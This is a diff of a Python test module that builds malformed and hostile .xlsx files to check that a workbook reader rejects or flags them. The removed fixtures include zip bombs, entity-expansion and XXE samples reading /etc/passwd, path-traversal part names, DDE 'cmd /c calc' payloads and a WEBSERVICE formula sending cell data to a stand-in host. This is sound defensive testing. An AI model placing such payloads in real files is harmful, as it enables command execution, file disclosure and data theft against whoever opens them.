@@ -2,10 +2,9 @@
 
 from __future__ import annotations
 
-import stat
 import struct
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import dataclass, replace
 from functools import cache
 from io import BytesIO
@@ -14,8 +13,12 @@ from zipfile import ZipFile
 
 import openpyxl
 
-SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
+SHEET, BOOK, RELATIONS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"
+ROOT, KINDS = "_rels/.rels", "[Content_Types].xml"
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
 TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+CALL = '<row r="9"><c r="A9" t="str"><v>&l9;</v></c></row>'
 DIRECTORY = struct.Struct("<4s6H3I5H2I")
 
 
@@ -32,17 +35,28 @@ class Entry:
     mode: int = 0
     stored_name: str = ""
     stored_at: int | None = None  # where its data are said to be; nothing is written then
+    stored_size: int | None = None
+    extra: bytes = b""
+    behind: bool = False  # its sizes stand behind its data
+    wide: bool = False  # its sizes are those of a large file
 
     def packed(self, offset: int) -> bytes:
+        if self.stored_at is not None:
+            return b""
         name = (self.stored_name or self.name).encode()
-        head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, self.flags, self.method, 0, 33, self.crc, len(self.data),
-                           self.size, len(name), 0)  # fmt: skip
-        return b"" if self.stored_at is not None else head + name + self.data
+        size = self.size if self.stored_size is None else self.stored_size
+        sizes, extra, after = (self.crc, len(self.data), size), self.extra, b""
+        if self.behind:
+            after, sizes = b"PK\7\x08" + struct.pack("<3I", *sizes), (0, 0, 0)
+        if self.wide:
+            extra, sizes = struct.pack("<HHQQ", 1, 16, size, len(self.data)), (self.crc, 0xFFFFFFFF, 0xFFFFFFFF)
+        head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, self.flags, self.method, 0, 33, *sizes, len(name), len(extra))
+        return head + name + extra + self.data + after
 
     def listed(self, offset: int) -> bytes:
         name, at = self.name.encode(), offset if self.stored_at is None else self.stored_at
         return DIRECTORY.pack(b"PK\1\2", 20, 20, self.flags, self.method, 0, 33, self.crc, len(self.data), self.size,
-                              len(name), 0, 0, 0, 0, self.mode << 16, at) + name  # fmt: skip
+                              len(name), len(self.extra), 0, 0, 0, self.mode << 16, at) + name + self.extra  # fmt: skip
 
 
 def entry(name: str, text: str | bytes, repeat: int = 1) -> Entry:
@@ -75,7 +89,8 @@ def parts() -> dict[str, str]:
     buffer = BytesIO()
     book.save(buffer)
     with ZipFile(buffer) as found:
-        return {name: found.read(name).decode() for name in found.namelist()}
+        texts = {name: found.read(name).decode() for name in found.namelist()}
+    return {name: text.replace("<definedNames/>", "<definedNames />") for name, text in texts.items()}  # with lxml
 
 
 def book(**changes: Entry | str) -> list[Entry]:
@@ -99,7 +114,36 @@ def formula(text: str, attributes: str = "") -> list[Entry]:
 def relation(kind: str, target: str) -> str:
     """A part's relation to something outside the file."""
     one = f'<Relationship Id="rId1" Type="{TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
-    return f"<Relationships>{one}</Relationships>"
+    return f'<Relationships xmlns="{RELATIONSHIPS}">{one}</Relationships>'
+
+
+def related(kind: str, target: str, name: str = "rId99") -> str:
+    """The workbook's relations with one more."""
+    one = f'<Relationship Id="{name}" Type="{TYPES}/{kind}" Target="{target}"/>'
+    return parts()[RELATIONS].replace("</Relationships>", f"{one}</Relationships>")
+
+
+def linked(*targets: str, cells: str = "", defined: str = "", link: str = "") -> list[Entry]:
+    """The small workbook with links to others, and cells that read them."""
+    numbers = range(1, len(targets) + 1)
+    references = "".join(f'<externalReference r:id="x{number}"/>' for number in numbers)
+    more = "".join(
+        f'<Relationship Id="x{number}" Type="{TYPES}/externalLink" Target="externalLinks/link{number}.xml"/>'
+        for number in numbers
+    )
+    names = f"<definedNames>{defined}</definedNames>" if defined else ""
+    start = parts()[BOOK].replace("<workbook ", f'<workbook xmlns:r="{TYPES}" ', 1)
+    changes = {
+        BOOK: start.replace("<definedNames />", f"<externalReferences>{references}</externalReferences>{names}"),
+        RELATIONS: parts()[RELATIONS].replace("</Relationships>", f"{more}</Relationships>"),
+        SHEET: sheet(cells),
+    }
+    for number, target in zip(numbers, targets, strict=True):
+        inside = link or '<externalBook r:id="rId1"/>'
+        whole = f'<externalLink xmlns="{MAIN}" xmlns:r="{TYPES}">{inside}</externalLink>'
+        changes[f"xl/externalLinks/link{number}.xml"] = whole
+        changes[f"xl/externalLinks/_rels/link{number}.xml.rels"] = relation("externalLinkPath", target)
+    return book(**changes)
 
 
 def overlapping() -> list[Entry]:
@@ -152,93 +196,62 @@ def defined(text: str) -> list[Entry]:
     return book(book=parts()[BOOK].replace("<definedNames />", names))
 
 
-OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
-CELLS = b"<c><v>1</v></c>" * 4000
-CALL = '<row r="9"><c r="A9" t="str"><v>&l9;</v></c></row>'
-Made = Callable[[], "list[Entry] | bytes"]
-REFUSED: dict[str, tuple[Made, str]] = {  # by every reader
-    "a text": (lambda: b"name,amount\n", "not an .xlsx workbook"),
-    "empty": (lambda: b"", "it is empty"),
-    "an old or encrypted file": (lambda: OLE, "locked by a password, or an old .xls"),
-    "half a file": (lambda: archive(book())[:3000], "cut off"),
-    "something before it": (lambda: b"PK\3\4" + archive(book()), "before or behind"),
-    "something behind it": (lambda: archive(book()) + b"x", "before or behind"),
-    "no workbook": (lambda: bare("docProps/app.xml"), "not an .xlsx workbook;"),
-    "a binary workbook": (lambda: bare("xl/workbook.bin"), "but a binary workbook"),
-    "an OpenDocument file": (lambda: bare("content.xml"), "but an OpenDocument file"),
-    "an encrypted part": (lambda: changed(SHEET, flags=1), "locked by a password"),
-    "an unknown compression": (lambda: changed(SHEET, method=14), "zipped in a way"),
-    "a wrong checksum": (lambda: changed(SHEET, crc=1), f"{SHEET} is damaged"),
-    "broken XML": (lambda: book(sheet="<worksheet><sheetData>"), f"{SHEET} is damaged"),
-    "no zip data": (lambda: changed(SHEET, data=b"\xff" * 50), f"{SHEET} is damaged"),
-    "a sheet of 100 MB": (lambda: book(sheet=entry(SHEET, CELLS, 1_700)), "102 MB from .*, as a zip bomb does"),
-    "60 parts of 9 MB": (lambda: book() + many(60, entry("", CELLS, 150)), "540 MB from .*, as a zip bomb does"),
-    "12,000 parts": (lambda: book() + many(12_000, Entry("", b"", 0, 0, 0)), "12,009 parts, more than"),
-    "parts that overlap": (overlapping, "overlaps with"),
-    "a size that isn't so": (lambda: list(lying()), "more than the 1,000 bytes"),
-    "entities that multiply": (lambda: book(sheet=laughs(SHEET)), "declares a document type"),
-    "entities in the workbook": (lambda: book(book=laughs(BOOK)), "declares a document type"),
-    "an entity of a file": (lambda: book(sheet=reading("file:///etc/passwd")), "declares a document type"),
-    "entities in a drawing": (lambda: book(**{"xl/d.vml": laughs(BOOK)}), "declares a document type"),
-    "another encoding": (lambda: book(sheet=entry(SHEET, parts()[SHEET].encode("utf-16"))), "not in UTF-8"),
-    "a declared encoding": (lambda: book(sheet='<?xml version="1.0" encoding="cp037"?><x/>'), "not in UTF-8"),
-    "a name that climbs": (lambda: book(**{"xl/../../../x.xml": "<x/>"}), "leads out of the file"),
-    "a name from the root": (lambda: book(**{"/etc/x.xml": "<x/>"}), "leads out of the file"),
-    "a name on a drive": (lambda: book(**{"C:/x.xml": "<x/>"}), "leads out of the file"),
-    "a name with backslashes": (lambda: book(**{"xl\\..\\x.xml": "<x/>"}), "leads out of the file"),
-    "a name that ends early": (lambda: book(**{"xl/a.xml\0.png": "<x/>"}), "leads out of the file"),
-    "two names": (lambda: changed(SHEET, stored_name="xl/worksheets/sheetX.xml"), "another name where it is stored"),
-    "a name twice": (lambda: [*book(), entry(SHEET, "<x/>")], "two parts named"),
-    "a name in capitals": (lambda: [*book(), entry(SHEET.upper(), "<x/>")], "two parts named"),
-    "a link to a file": (lambda: changed(SHEET, mode=stat.S_IFLNK | 0o777), "a link to another file"),
-    "a device": (lambda: changed(SHEET, mode=stat.S_IFCHR), "is no file"),
-    "a deep tree": (lambda: book(sheet="<a>" * 500_000), "more than 100 levels"),
-    "a huge tag": (lambda: book(sheet=f'<a b="{"x" * 9_000_000}"/>'), "a tag of more than"),
-    "a huge formula": (lambda: formula("1+" * 60_000 + "1"), "a formula of more than"),
-    "a column beyond": (lambda: one_cell("XFE1", 1), "cells out to XFE"),
-    "a row beyond": (lambda: one_cell("A1048577", 1048577), "cells out to [A-D]1048577"),
-    "no place": (lambda: one_cell("AAAA1", 1), "'AAAA1', which no sheet has"),
-}  # fmt: skip
-LINK = "xl/externalLinks/externalLink1.xml"
-LINKED = '<externalLink><externalBook xmlns:r="r" r:id="rId1"/></externalLink>'
-NOT_COMPUTED: dict[str, tuple[Made, str]] = {  # by engines; whoever only reads does it
-    "a far cell": (lambda: one_cell("XFD1048576", 1048576), "cells out to XFD1048576 on sheet 'Sheet'"),
-    "a huge merge": (lambda: book(sheet=sheet(behind=merge("A1:ZZ100000"))), "over A1:ZZ100000"),
-    "a huge array": (lambda: formula("B1", ' t="array" ref="A9:XFD99999"'), "array over A9:XFD99999"),
-    "a huge range": (lambda: formula("SUM($A:$XFD)"), r"a formula over \$A:\$XFD"),
-    "a linked workbook": (lambda: book(**{LINK: LINKED, "xl/externalLinks/_rels/externalLink1.xml.rels":
-                          relation("externalLinkPath", "file:///tmp/rates.xlsx")}), "file:///tmp/rates.xlsx"),
-    "a formula of another file": (lambda: formula("'/tmp/[rates.xlsx]Sheet1'!A1"), "rates.xlsx.*on sheet 'Sheet'"),
-    "a formula by number": (lambda: formula("1+[2]Sheet1!$A$1"), r"\[2\]Sheet1"),
-    "a formula by address": (lambda: formula("'file:///tmp/rates.ods'#$Sheet1.A1"), "rates.ods"),
-    "a name of another file": (lambda: defined("[1]S!$A$1"), r"\[1\]S"),
-    "a DDE link": (lambda: book(**{LINK: '<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'}), "DDE: cmd /c calc"),
-    "a DDE formula": (lambda: formula("cmd|'/c calc'!A0"), r"=cmd\|'/c calc'!A0"),
-    "a web service": (lambda: formula('_xlfn.WEBSERVICE("http://x.test/?" &amp; A1)'), "WEBSERVICE"),
-    "a picture from the web": (lambda: formula('_xlfn.IMAGE("http://x.test/a.png")'), "IMAGE"),
-    "a connection": (lambda: book(**{"xl/connections.xml": '<connections><connection name="Prices"/></connections>'}),
-                     "connection Prices"),
-    "a linked picture": (lambda: book(**{"xl/drawings/_rels/d.xml.rels": relation("image", "http://x.test/a.png")}),
-                         "http://x.test/a.png"),
-    "an embedded object": (lambda: book(**{"xl/embeddings/oleObject1.bin": "x"}), "oleObject1.bin"),
-    "a zip in the zip": (lambda: [*book(), entry("xl/embeddings/bomb.zip", archive(book()))], "bomb.zip"),
-    "an ActiveX control": (lambda: book(**{"xl/activeX/activeX1.bin": "x"}), "activeX1.bin"),
-}  # fmt: skip
-FINE: dict[str, Made] = {
-    "a small workbook": book,
-    "whole columns": lambda: formula("SUM($A:$Z)+SUM(1:9)"),
-    "a range of two calls": lambda: formula("SUM(INDEX($A:$A,1):INDEX($A:$A,2))"),
-    "texts": lambda: formula('"[1]S!A1|WEBSERVICE(http://x.test)"&amp;"A:XFD"'),
-    "a sheet named A|B": lambda: formula("'A|B'!A1"),
-    "a table": lambda: formula("SUM(T[[#This Row],[a]:[b]])*T[x]"),
-    "a hyperlink": lambda: book(**{"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "http://x.test/")}),
-    "a drawing as Excel writes it": lambda: book(**{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}),
-    "a merge over a column": lambda: book(sheet=sheet(behind=merge("F1:F1048576"))),
-    "a name of a whole sheet": lambda: defined("Sheet!$A$1:$XFD$1048576"),
-    "formats everywhere": lambda: book(sheet=sheet(behind=(
-        '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1">'
-        "<formula>A1&gt;1</formula></cfRule></conditionalFormatting>"))),
-}  # fmt: skip
+COMPATIBILITY = "http://schemas.openxmlformats.org/markup-compatibility/2006"
+
+
+def old(stream: str) -> bytes:
+    """A file in Microsoft's older container, of one stream."""
+    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(22) + struct.pack("<H", 9) + bytes(16) + struct.pack("<I", 0)
+    return head.ljust(512, b"\0") + b"".join(
+        name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", stream)
+    )
+
+
+def choice(inside: str) -> str:
+    """Markup of which a reader takes one."""
+    branches = f'<q:Choice Requires="z">{inside}</q:Choice><q:Fallback>{inside}</q:Fallback>'
+    return f'<q:AlternateContent xmlns:q="{COMPATIBILITY}">{branches}</q:AlternateContent>'
+
+
+def cells_of(rows: str) -> list[Entry]:
+    """The small workbook with more rows."""
+    return book(sheet=sheet(rows))
+
+
+def cells(row: str) -> list[Entry]:
+    """The small workbook with cells in row 9."""
+    return cells_of(f'<row r="9">{row}</row>')
+
+
+def saved(text: str) -> str:
+    """Row 9 with a formula with which 7 was saved."""
+    return f'<row r="9"><c r="A9"><f>{text}</f><v>7</v></c></row>'
+
+
+def inner(kind: str, target: str) -> str:
+    """A part's relation to another part."""
+    return relation(kind, target).replace(' TargetMode="External"', "")
+
+
+def utf16(text: str, name: str) -> Entry:
+    """A part in UTF-16, with its mark."""
+    return entry(name, text.encode("utf-16"))
+
+
+def in_folder(folder: str) -> list[Entry]:
+    """The small workbook with all that stands in `xl` in another folder."""
+    changed = {name.replace("xl/", f"{folder}/"): text for name, text in parts().items()}
+    for name in changed:
+        if name.endswith(".rels") or name == KINDS:
+            changed[name] = changed[name].replace('"xl/', f'"{folder}/').replace('"/xl/', f'"/{folder}/')
+    return [entry(name, text) for name, text in changed.items()]
+
+
+def named(name: str, told: str) -> list[Entry]:
+    """The small workbook with another name for its own part."""
+    texts = dict(parts())
+    texts[ROOT], texts[KINDS] = texts[ROOT].replace("workbook.xml", told), texts[KINDS].replace("workbook.xml", told)
+    return [entry(part.replace("workbook.xml", name), text) for part, text in texts.items()]
 
 
 def write(path: Path, made: list[Entry] | bytes) -> Path:
